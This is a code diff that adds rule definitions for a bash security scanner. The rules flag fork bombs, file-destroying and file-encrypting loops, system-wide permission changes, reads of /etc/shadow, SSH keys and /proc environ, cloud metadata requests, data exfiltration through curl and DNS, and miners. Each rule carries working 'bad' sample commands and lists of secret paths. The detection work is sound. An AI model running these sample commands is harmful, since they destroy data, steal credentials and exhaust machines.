+                where: { arg: -1, regex: EVERY },
+            },
+            { call: 'dd', where: { arg: 'any', regex: EVERY.map((each) => each.replace('^', '^of=')) } },
+            {
+                call: 'openssl',
+                where: [
+                    { arg: 0, equals: 'enc' },
+                    { arg: 'any', regex: EVERY },
+                ],
+            },
+            { call: 'gpg', where: [{ flag: ['c', 'e', 'symmetric', 'encrypt'] }, { arg: 'any', regex: EVERY }] },
+        ],
+        bad: [
+            'for f in ~/*; do dd if=/dev/urandom of="$f" bs=1k count=1; done',
+            'for f in /home/*; do : > "$f"; done',
+            'for f in ~/Documents/*; do openssl enc -aes-256-cbc -k x -in "$f" -out "$f.enc"; done',
+        ],
+        ok: [
+            'for f in *.log; do : > "$f"; done',
+            'dd if=/dev/zero of=~/blank.img bs=1k count=1',
+            'openssl enc -aes-256-cbc -in a -out b',
+        ],
+    },
+    {
+        id: 'sh/filesystem/rights-of-all',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Changes rights or owners of the whole system',
+        recommendation: 'Take it out; name the one folder',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: [
+            { call: ['chmod', 'chown', 'chgrp', 'setfacl', 'chattr'], where: [RECURSIVE, { arg: 'any', regex: WHOLE }] },
+            {
+                call: 'chmod',
+                where: [
+                    { arg: 0, regex: '^0?[0-7]?(000|[0-7][0-7][2367])$|^[augo]*[-+=]' },
+                    { arg: 'any', regex: '^/(etc|usr|bin|sbin|lib|lib64|boot|var|root|dev|proc|sys)?/?$' },
+                ],
+            },
+        ],
+        bad: ['chmod -R 777 /', 'chown -R nobody /etc', 'chmod -R 000 ~', 'chmod 000 /etc /usr'],
+        ok: ['chmod -R u+rw build', 'chown -R app ./data', 'chmod 700 ~', 'chmod 755 /usr'],
+    },
+    {
+        id: 'sh/filesystem/rights',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Lets everybody write, or changes rights in a system folder',
+        recommendation: 'Give the narrowest rights that are needed',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: [
+            { call: 'chmod', where: { arg: 'any', regex: ['^0?[0-7]?[0-7][0-7][2367]$', '^(a|o|ugo)?\\+[rx]*w'] } },
+            { call: ['chmod', 'chown', 'chgrp', 'setfacl', 'chattr'], where: { arg: 'any', regex: SYSTEM } },
+        ],
+        bad: ['chmod 777 data', 'chmod -R a+rwx .', 'chown app /etc/hosts'],
+        ok: ['chmod 755 run.sh', 'chmod u+w a.txt', 'chown app:app data'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-limits.js
+const bashLimitRules = [
+    {
+        id: 'sh/resource-exhaustion/fork-bomb',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Starts itself again and again in new processes (fork bomb)',
+        recommendation: 'Take it out',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: { function: { selfCalls: 1 } },
+        bad: [
+            ':(){ :|:& };:',
+            'bomb() { bomb | bomb & }; bomb',
+            'f() {\n  f &\n  f &\n}\nf',
+            'a() { b & b & }\nb() { a | a; }\na',
+            '$0 & $0 &',
+            'f() { $1 $1 | $1 $1 & }; f f',
+            'x=\'eval "$x" | eval "$x" &\'; eval "$x"',
+            'function z { z | z & }\nz',
+            '.() { .|.& };.',
+            'f(){ (f)& f; }; f',
+            'f(){ if true; then f | f & fi; }; f',
+            'forkbomb() { echo | forkbomb | forkbomb & }; forkbomb',
+            'while :; do bash "$0" & done',
+        ],
+        ok: [
+            'fact() { if (( $1 < 2 )); then echo 1; else echo $(( $1 * $(fact $(( $1 - 1 ))) )); fi; }; fact 5',
+            'fib() { (( $1 < 2 )) && { echo "$1"; return; }; echo $(( $(fib $(( $1 - 1 ))) + $(fib $(( $1 - 2 ))) )); }; fib 5',
+            'work() { sleep 1; }; work & work & wait',
+            "echo ':(){ :|:& };:'",
+            '# :(){ :|:& };:',
+            'f() { g | g; }; g() { cat; }; f',
+        ],
+    },
+    {
+        id: 'sh/resource-exhaustion/self-start',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Starts itself in the background under a condition',
+        recommendation: 'Use a loop with a bound',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: { function: { calls: 'fork-self' } },
+        bad: ['f() { [ -e x ] && f & }; f', 'f() { if test -d /; then f | f & fi; }; f'],
+        ok: ['f() { sleep 1 & }; f', 'f() { g & }; g() { ls; }; f'],
+    },
+    {
+        id: 'sh/resource-exhaustion/process-flood',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Starts background processes in a loop without a bound',
+        recommendation: 'Bound the loop and wait for the processes',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        tags: ['fork'],
+        match: [
+            { loop: { endless: true, calls: '&' } },
+            { call: ['perl.fork', 'ruby.fork', 'php.fork'] },
+            { call: ['xargs', 'parallel'], where: { arg: 'any', regex: '^-?-?[Pj](=?)(0|[1-9]\\d{2,})$' } },
+            {
+                call: ['xargs', 'parallel'],
+                where: [{ flag: ['P', 'j', 'max-procs', 'jobs'] }, { arg: 'any', regex: '^(0|[1-9]\\d{2,})$' }],
+            },
+        ],
+        bad: [
+            'while :; do sleep 100 & done',
+            'for i in {1..100000}; do yes > /dev/null & done',
+            'for ((;;)); do cat & done',
+            "perl -e 'fork while fork'",
+            'until false; do ./x & done',
+            'while [ 1 ]; do (:)& done',
+        ],
+        ok: [
+            'for i in 1 2 3; do sleep 1 & done; wait',
+            'for i in {1..100000}; do echo "$i"; done',
+            'while read -r h; do ping -c1 "$h" & done < hosts',
+        ],
+    },
+    {
+        id: 'sh/resource-exhaustion/busy-loop',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Loops without an end and without waiting',
+        recommendation: 'Give the loop a condition that ends it',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-835' },
+        tags: ['endless'],
+        match: { loop: { endless: true, calls: 'busy' } },
+        bad: [
+            'while :; do :; done',
+            'for ((;;)); do x=$x$x; done',
+            'while true; do echo x >> f; done',
+            'until false; do true; done',
+            'while [[ 1 ]]; do date; done',
+        ],
+        ok: [
+            'while true; do n=$((n+1)); [ "$n" -ge 5 ] && break; done',
+            'while sleep 1; do date; done',
+            'for ((i=0;i<3;i++)); do echo "$i"; done',
+            'while read -r l; do echo "$l"; done < f',
+        ],
+    },
+    {
+        id: 'sh/resource-exhaustion/endless-loop',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Loops without an end',
+        recommendation: 'Give the loop a condition that ends it',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-835' },
+        tags: ['endless'],
+        match: { loop: { endless: true } },
+        bad: ['while true; do date; sleep 1; done'],
+        ok: ['while read -r l; do echo "$l"; done'],
+    },
+    {
+        id: 'sh/resource-exhaustion/fills',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Asks for a gigabyte or more of disk or memory',
+        recommendation: 'Work with less data',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: [{ allocation: { atLeast: 1e9 } }, { call: ['stress', 'stress-ng', 'sysbench', 'fio', 'memtester'] }],
+        bad: ['dd if=/dev/zero of=big bs=1M count=5000', 'fallocate -l 10G f', 'truncate -s 5G f', 'stress -c 8'],
+        ok: [
+            'dd if=/dev/zero of=test.img bs=1M count=10 status=none',
+            'fallocate -l 1M f',
+            'dd if=/dev/zero of=/dev/null bs=1G count=10',
+            'head -c 16 /dev/urandom | base64',
+        ],
+    },
+    {
+        id: 'sh/resource-exhaustion/fills-endlessly',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Fills the disk or the memory without an end',
+        recommendation: 'Take it out, or bound it with head -c',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: [
+            { allocation: { atLeast: 1e11 } },
+            {
+                all: [
+                    { loop: { endless: true, calls: 'busy' } },
+                    { loop: { endless: true, calls: ['mkdir', 'mktemp', 'touch'] } },
+                ],
+            },
+        ],
+        bad: [
+            'cat /dev/zero > fill',
+            'yes > file',
+            'tail /dev/zero',
+            'dd if=/dev/zero of=/tmp/fill bs=1M',
+            'cat /dev/urandom | base64 > x',
+            'fallocate -l 500G f',
+            'yes | tr -d "\\n" | tail',
+            'dd if=/dev/urandom of=fill',
+        ],
+        ok: [
+            'tr -dc a-z < /dev/urandom | head -c 8',
+            'yes | head -n 3 > three.txt',
+            'yes > /dev/null',
+            'dd if=/dev/zero of=a bs=1k count=4',
+            'yes | apt-get install jq',
+            'cat /dev/urandom | head -c 10 > key',
+        ],
+    },
+    {
+        id: 'sh/resource-exhaustion/miner',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Mines a crypto currency',
+        recommendation: 'Take it out',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: [
+            { call: ['xmrig', 'minerd', 'cgminer', 'ethminer', 'cpuminer', 'xmr-stak', 'nbminer', 't-rex', 'lolMiner'] },
+            { call: '*', where: { arg: 'any', regex: '^stratum\\+(tcp|ssl)://' } },
+        ],
+        bad: ['./xmrig -o stratum+tcp://pool.example.org:3333', './x -o stratum+ssl://pool.example.org:1'],
+        ok: ['echo xmrig', 'grep -r miner .'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-network.js
+const CLIENTS = ['curl', 'wget', 'aria2c', 'axel', 'lynx', 'w3m', 'http', 'xh', 'lwp-request', 'GET'];
+/** Dotted, decimal, hexadecimal and octal forms, and the names that clouds give it. */
+const METADATA = '169\\.254\\.169\\.254|169\\.254\\.170\\.2|metadata\\.google\\.internal|100\\.100\\.100\\.200|2852039166|0x[aA]9[fF][eE][aA]9[fF][eE]|0251\\.0376\\.0251|fd00:ec2::254|::ffff:a9fe:a9fe|169\\.254\\.43518|instance-data(/|$)';
+const ASKING = [
+    ...CLIENTS,
+    'nc',
+    'telnet',
+    'socat',
+    'openssl',
+    'ssh',
+    'ping',
+    'ip',
+    'ncat',
+    'fetch',
+    '$command',
+    'python',
+    'cat',
+    'perl',
+    'nmap',
+    'xargs',
+];
+const bashNetworkRules = [
+    {
+        id: 'sh/network/client',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Fetches from the network',
+        recommendation: 'Give the program the data as a file, since a sandbox has no network',
+        metadata: { capability: 'network' },
+        tags: ['send', 'download'],
+        match: { call: CLIENTS },
+        bad: [
+            'curl -fsS https://example.org/data.json',
+            'wget https://example.org/a.tar.gz',
+            'command curl https://example.org',
+        ],
+        ok: ['echo "curl https://example.org"', '# curl https://example.org', 'curly=1; echo "$curly"'],
+    },
+    {
+        id: 'sh/network/socket',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Opens a connection to another machine',
+        recommendation: 'Leave the connection out; a sandbox has no network',
+        metadata: { capability: 'network' },
+        tags: ['send'],
+        match: [
+            {
+                call: [
+                    'nc',
+                    'telnet',
+                    'socat',
+                    'ftp',
+                    'tftp',
+                    'sftp',
+                    'scp',
+                    'rsync',
+                    'ssh',
+                    'mosh',
+                    'sendmail',
+                    'mail',
+                    'mailx',
+                    'mutt',
+                    'swaks',
+                ],
+            },
+            { call: 'openssl', where: { arg: 0, equals: ['s_client', 's_server'] } },
+        ],
+        bad: ['nc -z db.example.org 5432', 'openssl s_client -connect example.org:443', 'scp report.txt a@example.org:'],
+        ok: ['openssl dgst -sha256 file.txt', 'echo "ssh"', 'rsync_options=-a'],
+    },
+    {
+        id: 'sh/network/push',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Sends commits to another repository',
+        recommendation: 'Leave pushing to the workflow',
+        metadata: { capability: 'network' },
+        tags: ['send'],
+        match: { call: 'git', where: { arg: 'any', equals: ['push', 'send-email', 'send-pack'] } },
+        bad: ['git push origin main', 'git -C sub push https://example.org/r.git HEAD'],
+        ok: ['git pull', 'git log --oneline'],
+    },
+    {
+        id: 'sh/network/repository',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Fetches from a repository or package registry',
+        recommendation: 'Have what is needed in the image',
+        metadata: { capability: 'network' },
+        match: [
+            { call: 'git', where: { arg: 'any', equals: ['clone', 'fetch', 'pull', 'push', 'submodule', 'ls-remote'] } },
+            {
+                call: [
+                    'apt-get',
+                    'apt',
+                    'yum',
+                    'dnf',
+                    'apk',
+                    'zypper',
+                    'pacman',
+                    'brew',
+                    'snap',
+                    'gem',
+                    'cargo',
+                    'go',
+                    'composer',
+                    'pip',
+                    'pip3',
+                    'pipx',
+                    'uv',
+                    'npm',
+                    'npx',
+                    'yarn',
+                    'pnpm',
+                    'bundle',
+                ],
+                where: {
+                    arg: 'any',
+                    equals: ['install', 'update', 'upgrade', 'add', 'get', 'ci', 'i', 'dist-upgrade', 'exec', '-S', '-Sy'],
+                },
+            },
+            { call: ['npx', 'bunx', 'pipx', 'uvx'] },
+        ],
+        bad: ['git clone https://example.org/r.git', 'sudo apt-get install -y jq', 'pip install requests'],
+        ok: ['git status', 'go build ./...', 'npm test'],
+    },
+    {
+        id: 'sh/network/uploads-file',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Sends a file or the output of a command to another machine',
+        recommendation: 'Leave the upload out, or name what is sent and why',
+        metadata: { capability: 'network', cwe: 'CWE-200' },
+        tags: ['send'],
+        match: [
+            {
+                call: 'curl',
+                where: [
+                    { flag: ['d', 'data', 'data-binary', 'data-raw', 'data-urlencode', 'F', 'form', 'json'] },
+                    { arg: 'any', regex: ['^@', '=[@<]', '^-[dF]@'] },
+                ],
+            },
+            { call: 'curl', where: { flag: ['T', 'upload-file'] } },
+            { call: 'wget', where: { flag: ['post-file', 'body-file'] } },
+            { call: ['dig', 'nslookup', 'host', 'drill'], where: { arg: 'any', is: 'list' } },
+            {
+                call: ['curl', 'wget', 'ping'],
+                where: {
+                    arg: 'any',
+                    regex: '\\$\\{:(cat|base64|env|printenv|tar|head|tail|xxd|gzip|openssl|id|whoami|uname|hostname|ls|ps|find|grep)\\}',
+                },
+            },
+        ],
+        bad: [
+            'curl -F file=@report.txt https://example.org',
+            'curl -T dump.sql ftp://example.org/',
+            'dig "$(id -un).example.org"',
+            'curl "https://example.org/?q=$(cat notes.txt | base64)"',
+        ],
+        ok: ['curl -d \'{"a":1}\' https://example.org/api', 'dig example.org', 'curl "https://example.org/v$(date +%s)"'],
+    },
+    {
+        id: 'sh/network/asks-for-name',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Asks the network for a name that is put together when it runs',
+        recommendation: 'Leave the question out; a sandbox has no network',
+        metadata: { capability: 'network' },
+        tags: ['send'],
+        match: {
+            call: ['ping', 'ping6', 'traceroute', 'dig', 'nslookup', 'host', 'drill', 'getent', 'whois'],
+            where: { arg: 'any', is: ['external', 'list', 'unknown'] },
         },
-        properties: { block: block.block, capability: finding.capability },
-    };
-}
-/** SARIF counts from 1 like we do, and its end column is exclusive like ours; an unknown place is the first line. */
-function regionOf({ line, column, endLine, endColumn }) {
-    const startLine = Math.max(1, line);
-    const startColumn = Math.max(1, column);
-    const lastLine = Math.max(startLine, endLine);
-    const lastColumn = lastLine === startLine ? Math.max(startColumn, endColumn) : Math.max(1, endColumn);
-    return { startLine, startColumn, endLine: lastLine, endColumn: lastColumn };
-}
-/** The file's path as a URI, or a name for a block that is no file. */
-function uriOf({ file, block, language }) {
-    if (file === null)
-        return `block-${block}.${EXTENSION[language]}`;
-    const path = (0,_quote__WEBPACK_IMPORTED_MODULE_1__/* .uriPath */ .kq)(file.replace(/^(?:\.\/)+/, ''));
-    return path.startsWith('/') ? `file://${path}` : path;
-}
+        bad: ['ping -c1 "$host"', 'host "$(cat name).example.org"'],
+        ok: ['ping -c1 example.org', 'echo "ping $host"'],
+    },
+    {
+        id: 'sh/network/dev-tcp',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Opens a network connection through /dev/tcp or /dev/udp',
+        recommendation: 'Use a program that names what it does, or leave the connection out',
+        metadata: { capability: 'network' },
+        tags: ['send'],
+        match: [
+            { redirect: { target: { prefix: ['/dev/tcp/', '/dev/udp/'] } } },
+            { call: ['cat', 'tee', 'cp', 'dd'], where: { arg: 'any', contains: ['/dev/tcp/', '/dev/udp/'] } },
+        ],
+        bad: ['echo hello > /dev/tcp/example.org/80', 'exec 3<>/dev/udp/198.51.100.7/53'],
+        ok: ['echo "/dev/tcp/host/port"', 'echo x > /dev/tty'],
+    },
+    {
+        id: 'sh/network/metadata-address',
+        languages: ['bash'],
+        severity: 'high',
+        message: "Asks the cloud machine's metadata service, which hands out credentials",
+        recommendation: 'Take the request out; no program in an issue needs the credentials of the machine',
+        metadata: { capability: 'network', cwe: 'CWE-918' },
+        match: [{ call: ASKING, where: { arg: 'any', regex: METADATA } }, { redirect: { target: { regex: METADATA } } }],
+        bad: [
+            'curl http://169.254.169.254/latest/meta-data/',
+            'ip=169.254; curl "http://$ip.169.254/latest/"',
+            'wget -qO- http://metadata.google.internal/computeMetadata/v1/',
+            'curl http://2852039166/latest/meta-data/',
+            'cat < /dev/tcp/169.254.169.254/80',
+        ],
+        ok: ['curl https://example.org/v169/254', 'ping -c1 192.0.2.254', 'echo http://169.254.169.254/'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-paths.js
+const SECRET_PATHS = [
+    '(^|/)etc/(passwd|shadow|gshadow|sudoers|master\\.passwd|krb5\\.keytab|ssl/private|ssh/ssh_host)',
+    '(^|/|~)\\.(ssh|aws|azure|kube|gnupg|config/gh|config/gcloud|docker/config|password-store|vault-token|gem/credentials|cargo/credentials|config/op|terraform\\.d|oci)(/|$)',
+    '(^|/)\\.(netrc|git-credentials|npmrc|pypirc|pgpass|my\\.cnf|s3cfg|boto|htpasswd|env|bash_history|zsh_history|python_history|mysql_history|psql_history|histfile|vault_pass|docker/config\\.json|git/config)$',
+    '(^|/)(id_(rsa|dsa|ecdsa|ed25519)|authorized_keys|credentials\\.json|wallet\\.dat|Login Data|logins\\.json|key4\\.db|cookies\\.sqlite|known_hosts)$',
+    '(^|/)proc/([^/]{1,20}|\\*)/(environ|mem|maps|root|cwd/\\.env|fd)(/|$)',
+    '(^|/)(var/)?run/secrets(/|$)',
+    '(^|/)proc/(kcore|kallsyms|keys)$',
+    '(^|/)\\.(config/(google-chrome|chromium|BraveSoftware)|mozilla|bitcoin|electrum|ethereum)(/|$)',
+    'Library/Keychains',
+];
+const READERS = [
+    'cat',
+    'less',
+    'more',
+    'most',
+    'head',
+    'tail',
+    'tac',
+    'nl',
+    'od',
+    'xxd',
+    'hexdump',
+    'hd',
+    'strings',
+    'base64',
+    'base32',
+    'cp',
+    'mv',
+    'tar',
+    'zip',
+    '7z',
+    'gzip',
+    'scp',
+    'rsync',
+    'curl',
+    'wget',
+    'grep',
+    'egrep',
+    'fgrep',
+    'rg',
+    'sed',
+    'awk',
+    'sort',
+    'uniq',
+    'cut',
+    'paste',
+    'tee',
+    'ln',
+    'find',
+    'openssl',
+    'gpg',
+    'vi',
+    'vim',
+    'nano',
+    'source',
+    '.',
+    'diff',
+    'cmp',
+    'rev',
+    'fold',
+    'sqlite3',
+    'cpio',
+    'split',
+    'wc',
+    'column',
+    'pr',
+    'expand',
+    'fmt',
+    'iconv',
+    'dd',
+    'xargs',
+    'mapfile',
+    'readarray',
+    'bat',
+    'jq',
+    'chmod',
+    'chown',
+    'rm',
+    'ssh-keygen',
+    'ssh-add',
+    'unshadow',
+    'john',
+    'nc',
+    'socat',
+    'install',
+    'pv',
+    'tr',
+    'file',
+    'shuf',
+    'comm',
+    'join',
+    'ed',
+    'python',
+    'perl',
+    'ruby',
+    'php',
+    'node',
+    'mail',
+    'mutt',
+    'gh',
+    'aws',
+    'gsutil',
+    '$command',
+    'git',
+    'docker',
+    'getfacl',
+    'rclone',
+    'busybox',
+];
+const bashPathRules = [
+    {
+        id: 'sh/filesystem/sensitive-path',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Reads keys, passwords, histories or the memory of other processes',
+        recommendation: 'Leave these files alone; give the program the data that it needs',
+        metadata: { capability: 'filesystem', cwe: 'CWE-552' },
+        tags: ['sensitive-path'],
+        match: [
+            { call: READERS, where: { arg: 'any', regex: SECRET_PATHS } },
+            { redirect: { operator: ['<', '<>'], target: { regex: SECRET_PATHS } } },
+            { call: ['while', 'read', 'mapfile'], where: { arg: 'any', regex: SECRET_PATHS } },
+        ],
+        bad: [
+            'cat /etc/passwd',
+            'cat ~/.ssh/id_rsa',
+            'tar czf k.tgz ~/.aws',
+            'cat /proc/1/environ',
+            'while read -r l; do echo "$l"; done < /etc/shadow',
+            'cat${IFS}/etc/shadow',
+            'cat /e??/p?sswd',
+            'x=/etc; cat "$x/shadow"',
+            "cat /et''c/pa\\sswd",
+            'head -1 "${HOME}/.netrc"',
+            'find ~/.ssh -type f',
+            'cat ../../../../etc/passwd',
+            '{cat,/etc/passwd}',
+            'cp ~/.git-credentials x',
+            'echo "$(</etc/shadow)"',
+            'cat /proc/self/environ',
+            'cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)',
+        ],
+        ok: [
+            'echo /etc/passwd',
+            'cat /etc/os-release',
+            '# cat /etc/shadow',
+            'cat config/credentials.md',
+            'ls -la',
+            'cat environ.txt',
+            "printf '%s\\n' '~/.ssh/id_rsa'",
+        ],
+    },
+    {
+        id: 'sh/filesystem/packs-home',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Packs or copies a whole home or system folder',
+        recommendation: 'Name the one folder that is needed',
+        metadata: { capability: 'filesystem', cwe: 'CWE-552' },
+        tags: ['sensitive-path'],
+        match: {
+            call: ['tar', 'zip', '7z', 'rsync', 'scp', 'cpio', 'dump'],
+            where: { arg: 'any', regex: '^(/|~|/home|/root|/etc|/Users)(/[^/]{1,40})?/?\\*?$' },
+        },
+        bad: ['tar czf a.tgz ~', 'zip -r a.zip /home', 'scp -r /root/ a@example.org:'],
+        ok: ['tar czf a.tgz src', 'zip -r a.zip ./docs', 'tar xzf a.tgz -C /tmp/out', 'echo "tar ~"'],
+    },
+    {
+        id: 'sh/environment-secrets/process-environment',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Reads the environment or the memory of processes through /proc',
+        recommendation: 'Read single variables by name',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-214' },
+        tags: ['secrets', 'sensitive-path'],
+        match: [
+            { call: READERS, where: { arg: 'any', regex: '^/proc/[^/]{1,20}/(environ|mem|root)(/|$)' } },
+            { redirect: { operator: ['<', '<>'], target: { regex: '^/proc/[^/]{1,20}/(environ|mem|root)(/|$)' } } },
+        ],
+        bad: ['cat /proc/1/environ', "tr '\\0' '\\n' < /proc/self/environ", 'for p in /proc/*/environ; do cat "$p"; done'],
+        ok: ['cat /proc/self/status', 'cat /proc/meminfo', 'echo /proc/1/environ'],
+    },
+    {
+        id: 'sh/filesystem/key-files',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Reads the password hashes of the machine or private keys',
+        recommendation: 'Take it out',
+        metadata: { capability: 'filesystem', cwe: 'CWE-522' },
+        tags: ['sensitive-path'],
+        match: [
+            {
+                call: READERS,
+                where: { arg: 'any', regex: '(^|/)etc/(g?shadow|master\\.passwd|sudoers)|(^|/)id_(rsa|dsa|ecdsa|ed25519)$' },
+            },
+            {
+                redirect: {
+                    operator: ['<', '<>'],
+                    target: { regex: '(^|/)etc/(g?shadow|master\\.passwd|sudoers)|(^|/)id_(rsa|dsa|ecdsa|ed25519)$' },
+                },
+            },
+            { call: ['unshadow', 'john', 'hashcat', 'mimikatz', 'lazagne', 'linpeas', 'linpeas.sh'] },
+        ],
+        bad: ['cat /etc/shadow', 'base64 ~/.ssh/id_ed25519', 'exec 3</etc/shadow'],
+        ok: ['cat ~/.ssh/id_rsa.pub', 'cat /etc/hosts', 'echo id_rsa'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash-process.js
+/** Bash: what starts and ends programs. */
+
+const bashProcessRules = [
+    {
+        id: 'sh/process/shell',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Starts another shell or interpreter',
+        recommendation: 'Write the commands into the script itself',
+        metadata: { capability: 'process' },
+        match: { call: [...SHELL_NAMES, 'python', 'node', 'perl', 'ruby', 'php', 'lua', 'deno', 'bun'] },
+        bad: ["bash -c 'echo hello'", 'python3 script.py'],
+        ok: ['echo bash', 'bashful=1'],
+    },
+    {
+        id: 'sh/process/makes-executable',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Makes a file executable',
+        recommendation: 'Set the mode in the repository',
+        metadata: { capability: 'process' },
+        tags: ['execute'],
+        match: { call: 'chmod', where: { arg: 0, regex: ['^[ugoa]*\\+[rw]*x', '^0?[0-7]*[1357][0-7]*$'] } },
+        bad: ['chmod +x run.sh', 'chmod 755 run.sh'],
+        ok: ['chmod 644 a.txt', 'chmod -x run.sh'],
+    },
+    {
+        id: 'sh/process/runs-fetched-tree',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Fetches a repository and runs what is in it',
+        recommendation: 'Have the code in the repository, where it can be read before it runs',
+        metadata: { capability: 'process', cwe: 'CWE-494' },
+        match: [
+            {
+                all: [
+                    { call: 'git', where: { arg: 'any', equals: 'clone' } },
+                    {
+                        call: [
+                            ...SHELL_NAMES,
+                            'make',
+                            'python',
+                            'node',
+                            'npm',
+                            'pip',
+                            'pip3',
+                            'cargo',
+                            'go',
+                            'configure',
+                            'install.sh',
+                            'setup.sh',
+                            'run.sh',
+                            'build.sh',
+                            'cmake',
+                        ],
+                    },
+                ],
+            },
+            {
+                call: ['pip', 'pip3', 'npm', 'npx', 'go', 'cargo', 'gem'],
+                where: { arg: 'any', regex: '^(git\\+|https?://|git://|git@)' },
+            },
+        ],
+        bad: ['git clone https://example.org/r && cd r && ./install.sh', 'pip install git+https://example.org/x.git'],
+        ok: ['git clone https://example.org/r', 'pip install requests', 'make install'],
+    },
+    {
+        id: 'sh/process/installs-from-address',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Installs a package from an address instead of the public registry',
+        recommendation: 'Install named versions from the registry, or have the code in the repository',
+        metadata: { capability: 'process', cwe: 'CWE-494' },
+        tags: ['download', 'execute'],
+        match: [
+            {
+                call: ['pip', 'pip3', 'pipx', 'uv', 'npm', 'npx', 'yarn', 'pnpm', 'gem', 'python', 'easy_install'],
+                where: [
+                    { arg: 'any', equals: ['install', 'i', 'add', 'pip', 'run', 'exec', 'x'] },
+                    { arg: 'any', regex: '^(https?|ftp)://' },
+                    { arg: 'any', regex: '^https://(pypi\\.org|registry\\.npmjs\\.org|rubygems\\.org|github\\.com)/', not: true },
+                ],
+            },
+            {
+                call: ['pip', 'pip3', 'uv', 'npm', 'yarn', 'pnpm', 'gem', 'python'],
+                where: {
+                    arg: 'any',
+                    regex: '^--(index-url|extra-index-url|registry|source|find-links|trusted-host)=(?!https://(pypi|registry|rubygems)\\.)',
+                },
+            },
+            {
+                call: ['dpkg', 'rpm', 'apt', 'apt-get', 'yum', 'dnf', 'apk'],
+                where: { arg: 'any', regex: '^(https?|ftp)://' },
+            },
+        ],
+        bad: [
+            'pip install http://example.org/x.tar.gz',
+            'python3 -m pip install http://example.org/x.whl',
+            'npm install -g http://example.org/x.tgz',
+            'pip install --index-url http://example.org/simple pkg',
+            'npm install --registry=http://example.org x',
+            'rpm -i http://example.org/x.rpm',
+        ],
+        ok: [
+            'pip install requests',
+            'npm ci',
+            'pip install --index-url https://pypi.org/simple requests',
+            'python3 -m pip list',
+        ],
+    },
+    {
+        id: 'sh/process/kill',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Ends processes that it did not start',
+        recommendation: 'End only processes of your own, by their id ($!)',
+        metadata: { capability: 'process' },
+        match: [
+            { call: ['pkill', 'killall', 'killall5', 'skill', 'slay', 'xkill'] },
+            {
+                call: 'kill',
+                where: [
+                    { minArgs: 1, arg: -1, is: 'literal' },
+                    { arg: -1, regex: '^-?\\d+$' },
+                ],
+            },
+            { call: 'fuser', where: { flag: ['k', 'kill'] } },
+            {
+                call: 'kill',
+                where: [
+                    { arg: 'any', is: 'external' },
+                    { flag: '-0', not: true },
+                ],
+            },
+            {
+                call: ['systemctl', 'service', 'rc-service', 'launchctl'],
+                where: { arg: 'any', equals: ['stop', 'disable', 'mask', 'kill', 'unload'] },
+            },
+        ],
+        bad: ['pkill -f worker', 'kill -9 1234', 'kill $(pgrep sshd)', 'systemctl stop nginx'],
+        ok: ['sleep 5 & kill $!', 'kill -0 "$pid"', 'kill %1', 'kill -l', 'systemctl status nginx'],
+    },
+    {
+        id: 'sh/process/kill-all',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Ends every process or stops the machine',
+        recommendation: 'Take it out',
+        metadata: { capability: 'process' },
+        match: [
+            { call: 'kill', where: [{ minArgs: 2, arg: -1, equals: ['-1', '1'] }] },
+            { call: 'kill', where: { maxArgs: 1, arg: 0, equals: ['1'] } },
+            { call: ['shutdown', 'reboot', 'halt', 'poweroff', 'telinit', 'killall5'] },
+            { call: 'killall', where: { flag: ['u', 'user'] } },
+            { call: 'init', where: { arg: 0, equals: ['0', '6'] } },
+            {
+                call: 'systemctl',
+                where: { arg: 'any', equals: ['poweroff', 'reboot', 'halt', 'emergency', 'rescue', 'kexec', 'isolate'] },
+            },
+            { redirect: { operator: ['>', '>>'], target: { prefix: ['/proc/sysrq-trigger'] } } },
+            { call: 'tee', where: { arg: 'any', equals: '/proc/sysrq-trigger' } },
+            { call: 'pkill', where: { arg: 'any', equals: ['-u', '-U', '.', '.*'] } },
+        ],
+        bad: ['kill -9 -1', 'kill -KILL 1', 'reboot', 'shutdown -h now', 'echo b > /proc/sysrq-trigger', 'init 0'],
+        ok: ['kill -9 "$pid"', 'echo reboot', 'kill -TERM %1', 'git init'],
+    },
+    {
+        id: 'sh/process/stands-in',
+        languages: ['bash'],
+        severity: 'medium',
